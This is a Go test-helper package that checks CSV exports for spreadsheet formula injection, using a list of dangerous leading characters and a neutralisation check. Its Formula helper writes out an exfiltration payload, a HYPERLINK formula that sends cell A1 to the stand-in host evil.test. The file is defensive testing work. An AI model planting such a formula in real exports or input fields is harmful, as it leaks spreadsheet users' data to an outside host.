// Package csvouttest checks, for tests of every CSV path, that visitors' text which a
// spreadsheet would run as a formula arrives neutralised. It keeps its own list of
// dangerous first characters, so it does not trust the writer it checks.
package csvouttest

import (
	"encoding/csv"
	"strings"
	"testing"
)

// Prefixes are the first characters that make a spreadsheet read a cell as a formula:
// ASCII, a leading TAB or CR, and the full-width forms.
var Prefixes = []string{"=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"}

// Printable are the Prefixes without TAB and CR, which the collector refuses in event
// names and strips from UTM values.
var Printable = []string{"=", "+", "-", "@", "＝", "＋", "－", "＠"}

// Formula is visitor text that a spreadsheet would run: a link that sends the row away.
func Formula(prefix string) string {
	return prefix + `HYPERLINK("https://evil.test/?d="&A1,"open")`
}

// Dangerous reports whether a cell starts with one of Prefixes.
func Dangerous(cell string) bool {
	for _, p := range Prefixes {
		if strings.HasPrefix(cell, p) {
			return true
		}
	}
	return false
}

// Parse reads a CSV body, failing the test when it is not one.
func Parse(t testing.TB, what, body string) [][]string {
	t.Helper()
	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("%s: %v in %q", what, err, body)
	}
	return recs
}

// Check fails for every cell of recs that starts with a formula character, and for
// every Formula of want that recs do not hold as a neutralised cell (a leading
// apostrophe), so a file that lost the rows cannot pass.
func Check(t testing.TB, what string, recs [][]string, want []string) {
	t.Helper()
	cells := map[string]bool{}
	for i, rec := range recs {
		for j, cell := range rec {
			cells[cell] = true
			if Dangerous(cell) {
				t.Errorf("%s: row %d column %d starts with a formula character: %q", what, i, j, cell)
			}
		}
	}
	for _, p := range want {
		if f := Formula(p); !cells["'"+f] {
			t.Errorf("%s: no neutralised cell %q", what, "'"+f)
		}
	}
}
